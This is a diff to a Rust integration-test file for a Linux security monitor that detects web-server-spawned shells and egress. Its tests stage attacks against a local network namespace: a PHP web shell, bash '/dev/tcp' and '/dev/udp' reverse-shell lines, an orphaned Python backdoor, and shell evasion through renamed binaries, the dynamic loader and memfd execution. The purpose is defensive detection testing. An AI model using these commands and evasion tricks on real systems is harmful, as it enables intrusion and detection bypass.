@@ -789,7 +789,12 @@ fn assert_shell_alert(a: &Value, fpm: &PhpFpm, cmd: &str) {
         a["title"],
         format!("Shell spawned by web server: {sh} (parent {fpm_comm})")
     );
-    assert_eq!(a["dedup"], format!("webserver_shell:{fpm_exe}:{sh}"));
+    // The key names the whole command line: another command is another alert.
+    let argv = serde_json::to_string(&a["process"]["argv"]).expect("argv");
+    assert_eq!(a["dedup"], format!("webserver_shell:{fpm_exe}:{sh}:{argv}"));
+    assert_eq!(a["shell_match"], "path");
+    assert_eq!(a["web_server_via"], "lineage");
+    assert!(is_incident(&a["incident"]), "{a}");
     assert_eq!(a["event"], "exec");
     assert_eq!(a["filename"], "/bin/sh");
     assert_eq!(a["pre_existing"], false);
@@ -1100,7 +1105,7 @@ impl Scratch {
         let www = self.path("www");
         fs::create_dir_all(&www).expect("mkdir www");
         fs::set_permissions(&www, fs::Permissions::from_mode(0o755)).expect("chmod www");
-        for script in ["shell.php", "egress.php"] {
+        for script in ["shell.php", "egress.php", "attack.php"] {
             let src = Path::new(SCENARIOS).join(script);
             let text =
                 fs::read_to_string(&src).unwrap_or_else(|e| panic!("read {}: {e}", src.display()));
@@ -1385,7 +1390,11 @@ fn double_forked_web_shell_keeps_its_web_server() {
         "ancestry {pids:?} of the orphan's exec lost the php-fpm worker {}",
         fpm.worker
     );
-    assert_ne!(exec["process"]["ppid"], pids[0], "reparented");
+    // ppid is the fork-time parent, like ancestry[0], though the kernel now reports init.
+    assert_eq!(
+        exec["process"]["ppid"], pids[0],
+        "ppid and ancestry[0] agree"
+    );
     assert_eq!(exec["web_server"]["pid"], fpm.worker);
     let shell = m
         .seen
@@ -1394,4 +1403,416 @@ fn double_forked_web_shell_keeps_its_web_server() {
         .expect("the web shell's sh raised webserver_shell");
     assert_eq!(shell["web_server"]["exe"], fpm.exe);
     m.stop();
+}
+
+// ---------------------------------------------------------------------------------------------
+// Detection depth (issue 12): shells known by content, lineage an attacker sheds, every command.
+// ---------------------------------------------------------------------------------------------
+
+/// The attacker's side: a network namespace reached over a veth pair, `10.213.0.1` here and
+/// `10.213.0.2` there (10.0.0.0/8 is not excluded by [`depth_test_policy`]).
+struct AttackerNs {
+    ns: NetNs,
+}
+
+const ATTACKER: &str = "10.213.0.2";
+
+impl AttackerNs {
+    fn create() -> Self {
+        let ns = NetNs::create("mon-atk");
+        let _ = Command::new("ip")
+            .args(["link", "del", "mon-atk0"])
+            .stderr(Stdio::null())
+            .status();
+        run_ok(Command::new("ip").args([
+            "link", "add", "mon-atk0", "type", "veth", "peer", "name", "mon-atk1",
+        ]));
+        run_ok(Command::new("ip").args(["link", "set", "mon-atk1", "netns", "mon-atk"]));
+        run_ok(Command::new("ip").args(["addr", "add", "10.213.0.1/30", "dev", "mon-atk0"]));
+        run_ok(Command::new("ip").args(["link", "set", "mon-atk0", "up"]));
+        run_ok(Command::new("ip").args([
+            "-n",
+            "mon-atk",
+            "addr",
+            "add",
+            "10.213.0.2/30",
+            "dev",
+            "mon-atk1",
+        ]));
+        run_ok(Command::new("ip").args(["-n", "mon-atk", "link", "set", "mon-atk1", "up"]));
+        AttackerNs { ns }
+    }
+
+    /// `socat` listening in the namespace.
+    fn listen(&self, scratch: &Scratch, what: &str, address: &str) -> Running {
+        Running::spawn(
+            scratch,
+            what,
+            Command::new("ip").args([
+                "netns",
+                "exec",
+                &self.ns.name,
+                "socat",
+                "-u",
+                address,
+                "STDOUT",
+            ]),
+        )
+    }
+}
+
+impl Drop for AttackerNs {
+    fn drop(&mut self) {
+        let _ = Command::new("ip")
+            .args(["link", "del", "mon-atk0"])
+            .status();
+    }
+}
+
+/// The default policy with 10.0.0.0/8 no longer excluded from egress (the attacker's namespace
+/// lives there).
+fn depth_test_policy(scratch: &Scratch) -> PathBuf {
+    let default: toml::Table = DEFAULT_POLICY.parse().expect("default policy is TOML");
+    let kept: Vec<toml::Value> = default["rules"]["webserver_egress"]["excluded_networks"]
+        .as_array()
+        .expect("excluded_networks")
+        .iter()
+        .filter(|n| n.as_str() != Some("10.0.0.0/8"))
+        .cloned()
+        .collect();
+    let text = format!(
+        "# Written by tests/tests/detections.rs: 10.0.0.0/8 is not excluded.\n\
+         [rules.webserver_egress]\nexcluded_networks = {}\n",
+        toml::Value::Array(kept)
+    );
+    let path = scratch.write("policy.toml", &text);
+    let out = Command::new(monitor_bin())
+        .arg("check-policy")
+        .arg(&path)
+        .output()
+        .expect("run monitor check-policy");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    path
+}
+
+/// Percent-encodes a query-string value.
+fn urlencode(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+/// `attack.php?argv=...`: `proc_open()` of `argv`, without a shell.
+fn proc_open(argv: &[&str]) -> String {
+    let json = serde_json::to_string(argv).expect("json");
+    http_get(24130, &format!("/attack.php?argv={}", urlencode(&json)))
+}
+
+/// `attack.php?cmd=...`: `system()`, i.e. `sh -c`.
+fn web_shell(cmd: &str) -> String {
+    http_get(24130, &format!("/attack.php?cmd={}", urlencode(cmd)))
+}
+
+fn is_incident(v: &Value) -> bool {
+    v.as_str()
+        .is_some_and(|s| s.len() == 16 && s.chars().all(|c| c.is_ascii_hexdigit()))
+}
+
+#[test]
+fn web_shells_known_by_content_inode_loader_and_memfd() {
+    if !privileged("web_shells_known_by_content_inode_loader_and_memfd") {
+        return;
+    }
+    let scratch = Scratch::new("identity");
+    let bash = exe_of("bash");
+    // A renamed copy (another inode, same content) and a hard link (the same inode).
+    let copy = scratch.path(".x");
+    fs::copy(&bash, &copy).expect("copy bash");
+    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).expect("chmod");
+    let link = scratch.path("hl");
+    fs::hard_link(&bash, &link).expect("hard link bash (same filesystem as /tmp)");
+
+    let mut m = Monitor::start(&["--events"]);
+    let fpm = PhpFpm::start(&scratch);
+    let _nginx = Nginx::start(&scratch, "127.0.0.1:24130", "127.0.0.1:9");
+    let loader = path_str(&canonical(Path::new("/lib64/ld-linux-x86-64.so.2"))).to_owned();
+    let memfd = "import os; f = os.memfd_create('x'); \
+                 os.write(f, open('/usr/bin/bash', 'rb').read()); \
+                 os.execv('/proc/self/fd/%d' % f, ['bash', '-c', 'id; sleep 0.5'])";
+    let cases: [(&str, Vec<&str>, &str); 4] = [
+        (
+            "content",
+            vec![path_str(&copy), "-c", "id; true"],
+            path_str(&copy),
+        ),
+        (
+            "inode",
+            vec![path_str(&link), "-c", "id; true"],
+            path_str(&link),
+        ),
+        (
+            "loader",
+            vec!["/lib64/ld-linux-x86-64.so.2", "/bin/bash", "-c", "id; true"],
+            loader.as_str(),
+        ),
+        (
+            "content",
+            vec!["/usr/bin/python3", "-c", memfd],
+            "/memfd:x (deleted)",
+        ),
+    ];
+    let mut incidents = Vec::new();
+    for (matched, argv, exe) in cases {
+        let body = proc_open(&argv);
+        assert!(body.contains("uid=33(www-data)"), "{argv:?}: {body}");
+        let a = m.wait_for(
+            &format!("webserver_shell for {argv:?}"),
+            ALERT_TIMEOUT,
+            |v| is_alert(v, "webserver_shell") && ours(v) && v["process"]["exe"] == exe,
+        );
+        assert_alert_shape(&a);
+        assert_eq!(a["shell_match"], matched, "{a}");
+        assert_eq!(a["web_server_via"], "lineage");
+        assert_eq!(a["web_server"]["pid"], fpm.worker);
+        assert_eq!(a["process"]["ppid"], a["ancestry"][0]["pid"]);
+        if matched == "loader" {
+            assert_eq!(a["program"]["loaded"], "/bin/bash");
+            assert_eq!(
+                a["title"],
+                format!(
+                    "Shell spawned by web server: /bin/bash via {loader} (parent {})",
+                    fpm.comm()
+                )
+            );
+        } else {
+            assert_eq!(a["program"]["shell"], matched);
+            assert_eq!(a["program"]["same_as"], bash);
+            assert_eq!(
+                a["title"],
+                format!(
+                    "Shell spawned by web server: {exe} = {bash} (parent {})",
+                    fpm.comm()
+                )
+            );
+        }
+        assert!(is_incident(&a["incident"]), "{a}");
+        incidents.push(a["incident"].clone());
+    }
+    incidents.dedup();
+    assert_eq!(incidents.len(), 1, "one php-fpm tree, one incident");
+    // Normal traffic: the worker serving a page raises nothing.
+    let body = http_get(24130, "/attack.php?connect=127.0.0.1&port=24130");
+    assert!(body.contains("connected"), "{body}");
+    m.drain_for(QUIET);
+    assert_no_alert(
+        &m.seen
+            .iter()
+            .filter(|v| v["process"]["pid"] == fpm.worker)
+            .cloned()
+            .collect::<Vec<_>>(),
+        "webserver_egress",
+        "for php-fpm's own loopback call",
+    );
+    let daemon = m.pid();
+    m.stop();
+    record(daemon, "webserver_shell_identity");
+}
+
+#[test]
+fn reverse_shells_orphaned_backdoor_and_every_command() {
+    if !privileged("reverse_shells_orphaned_backdoor_and_every_command") {
+        return;
+    }
+    let scratch = Scratch::new("revshell");
+    let policy = depth_test_policy(&scratch);
+    let attacker = AttackerNs::create();
+    let _tcp = attacker.listen(
+        &scratch,
+        "atk-tcp",
+        "TCP4-LISTEN:443,bind=10.213.0.2,reuseaddr,fork",
+    );
+    let _udp = attacker.listen(&scratch, "atk-udp", "UDP4-RECV:4444,bind=10.213.0.2");
+    poll("the attacker's listener", || {
+        let out = Command::new("ip")
+            .args(["netns", "exec", "mon-atk", "ss", "-Htln", "sport = :443"])
+            .output()
+            .ok()?;
+        (!out.stdout.is_empty()).then_some(())
+    });
+
+    // A backdoor started as www-data and orphaned (its parent exits at once) BEFORE the monitor:
+    // its /proc parent chain ends at pid 1.
+    let trigger = scratch.path("go");
+    let script = scratch.write(
+        "backdoor.py",
+        &format!(
+            "import os, socket, time\n\
+             while not os.path.exists('{t}'):\n    time.sleep(0.05)\n\
+             socket.create_connection(('{ATTACKER}', 443), timeout=3).close()\n\
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{ATTACKER}', 4444))\n\
+             os.system('id >/dev/null')\n\
+             time.sleep(1)\n",
+            t = path_str(&trigger)
+        ),
+    );
+    run_ok(Command::new("sh").arg("-c").arg(format!(
+        "setpriv --reuid=33 --regid=33 --clear-groups /usr/bin/python3 {} >/dev/null 2>&1 &",
+        path_str(&script)
+    )));
+    let backdoor = poll("the orphaned backdoor", || {
+        let out = Command::new("pgrep")
+            .args(["-f", path_str(&script)])
+            .output()
+            .ok()?;
+        String::from_utf8_lossy(&out.stdout)
+            .trim()
+            .parse::<u32>()
+            .ok()
+    });
+    struct Kill(u32);
+    impl Drop for Kill {
+        fn drop(&mut self) {
+            unsafe { libc::kill(self.0 as libc::pid_t, libc::SIGKILL) };
+        }
+    }
+    let _kill = Kill(backdoor);
+    poll("the backdoor to be orphaned", || {
+        let stat = fs::read_to_string(format!("/proc/{backdoor}/stat")).ok()?;
+        let ppid: u32 = stat
+            .rsplit(')')
+            .next()?
+            .split_whitespace()
+            .nth(1)?
+            .parse()
+            .ok()?;
+        (ppid != std::process::id()).then_some(())
+    });
+
+    let mut m = Monitor::start(&["--events", "--policy", path_str(&policy)]);
+    fs::write(&trigger, "").expect("trigger");
+    let python = path_str(&canonical(Path::new("/usr/bin/python3"))).to_owned();
+    let by_backdoor = |v: &Value| v["process"]["pid"] == backdoor;
+    let a = m.wait_for("the backdoor's TCP egress", ALERT_TIMEOUT, |v| {
+        is_alert(v, "webserver_egress") && by_backdoor(v) && v["socket"]["protocol"] == "tcp"
+    });
+    assert_alert_shape(&a);
+    assert_eq!(a["web_server_via"], "user");
+    assert_eq!(a["process"]["exe"], python);
+    assert_eq!(a["process"]["user"], "www-data");
+    assert_eq!(
+        a["title"],
+        format!(
+            "Web server egress: {python} -> {ATTACKER}:443 (as www-data) [tool {python}: no port allowed]"
+        )
+    );
+    let incident = a["incident"].clone();
+    assert!(is_incident(&incident), "{a}");
+    let a = m.wait_for("the backdoor's UDP egress", ALERT_TIMEOUT, |v| {
+        is_alert(v, "webserver_egress") && by_backdoor(v) && v["socket"]["protocol"] == "udp"
+    });
+    assert_eq!(
+        a["title"],
+        format!("Web server egress: {python} -> {ATTACKER}:4444/udp (as www-data)")
+    );
+    assert_eq!(a["incident"], incident);
+    let a = m.wait_for("the backdoor's shell", ALERT_TIMEOUT, |v| {
+        is_alert(v, "webserver_shell") && v["ancestry"][0]["pid"] == backdoor
+    });
+    assert_eq!(a["web_server_via"], "user");
+    assert_eq!(
+        a["incident"], incident,
+        "the backdoor's tree is one incident"
+    );
+
+    // Reverse shells through a web shell under php-fpm: to an allowed TCP port, and over UDP.
+    let fpm = PhpFpm::start(&scratch);
+    let _nginx = Nginx::start(&scratch, "127.0.0.1:24130", "127.0.0.1:9");
+    let bash = exe_of("bash");
+    web_shell(&format!("bash -c 'echo pwned >/dev/tcp/{ATTACKER}/443'"));
+    let a = m.wait_for("a reverse shell to 443", ALERT_TIMEOUT, |v| {
+        is_alert(v, "webserver_egress") && ours(v) && v["socket"]["remote"]["port"] == 443
+    });
+    assert_alert_shape(&a);
+    assert_eq!(a["process"]["exe"], bash);
+    assert_eq!(a["web_server_via"], "lineage");
+    assert_eq!(
+        a["title"],
+        format!(
+            "Web server egress: {bash} -> {ATTACKER}:443 (descendant of {}) [shell {bash}: no port allowed]",
+            fpm.comm()
+        )
+    );
+    let web_incident = a["incident"].clone();
+    assert!(is_incident(&web_incident));
+    assert_ne!(web_incident, incident);
+    web_shell(&format!("bash -c 'echo pwned >/dev/udp/{ATTACKER}/4444'"));
+    let a = m.wait_for("a reverse shell over UDP", ALERT_TIMEOUT, |v| {
+        is_alert(v, "webserver_egress") && ours(v) && v["socket"]["protocol"] == "udp"
+    });
+    assert_eq!(a["socket"]["remote"], json!({"ip": ATTACKER, "port": 4444}));
+    assert_eq!(a["incident"], web_incident);
+    // php-fpm's own API call to 443 keeps its allowed port.
+    let body = http_get(24130, &format!("/attack.php?connect={ATTACKER}&port=443"));
+    assert!(body.contains("connected"), "{body}");
+    m.wait_for("php-fpm's own connect", ALERT_TIMEOUT, |v| {
+        is_event(v, "connect")
+            && v["process"]["pid"] == fpm.worker
+            && v["socket"]["remote"]["port"] == 443
+    });
+
+    // Every command is an alert; the same command twice is one alert, counted.
+    web_shell("uname -a");
+    web_shell("id -u");
+    web_shell("id -u");
+    m.drain_for(QUIET);
+    let commands: Vec<&Value> = m
+        .seen
+        .iter()
+        .filter(|v| is_alert(v, "webserver_shell") && ours(v))
+        .collect();
+    let argv_of = |cmd: &str| {
+        commands
+            .iter()
+            .filter(|v| {
+                v["process"]["argv"]
+                    .as_array()
+                    .is_some_and(|a| a.last() == Some(&json!(cmd)))
+            })
+            .count()
+    };
+    assert_eq!(argv_of("uname -a"), 1, "{commands:#?}");
+    assert_eq!(argv_of("id -u"), 1, "{commands:#?}");
+    assert!(argv_of(&format!("bash -c 'echo pwned >/dev/tcp/{ATTACKER}/443'")) == 1);
+    for v in &commands {
+        assert_eq!(v["incident"], web_incident);
+    }
+    assert_no_alert(
+        &m.seen
+            .iter()
+            .filter(|v| v["process"]["pid"] == fpm.worker)
+            .cloned()
+            .collect::<Vec<_>>(),
+        "webserver_egress",
+        "for php-fpm's own call to an allowed port",
+    );
+    let daemon = m.pid();
+    let status = m.stop();
+    let counted = status["dedup"]["suppressed_by_key"]
+        .as_object()
+        .expect("suppressed_by_key")
+        .iter()
+        .filter(|(k, n)| k.starts_with("webserver_shell:") && k.contains("id -u") && **n == 1)
+        .count();
+    assert_eq!(counted, 1, "the repeat is counted: {status}");
+    record(daemon, "webserver_reverse_shells");
 }
